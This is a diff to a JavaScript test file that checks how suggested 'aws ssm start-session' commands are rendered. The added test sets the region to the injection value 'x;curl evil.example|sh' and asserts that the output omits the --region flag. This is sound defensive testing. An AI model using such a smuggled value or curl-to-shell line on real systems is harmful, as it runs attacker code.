@@ -58,6 +58,13 @@ test('the first instance of each cause can be opened with a command, other targe
     /- Open the instance: aws ssm start-session --target i-0123456789abcdef0 --region eu-central-1\n/,
   )
   assert.doesNotMatch(onPremises, /start-session/)
+  const region = 'x;curl evil.example|sh'
+  const elsewhere = textOf('denied', it => ({
+    ...it,
+    region,
+    failures: [{ ...causeOf(it), targetIds: ['i-0123456789abcdef0'] }],
+  }))
+  assert.match(elsewhere, /- Open the instance: aws ssm start-session --target i-0123456789abcdef0\n/)
   assert.equal(withTargets('i-0123456789abcdef0', 'i-0123456789abcdef0').split('start-session').length, 2)
 })
 
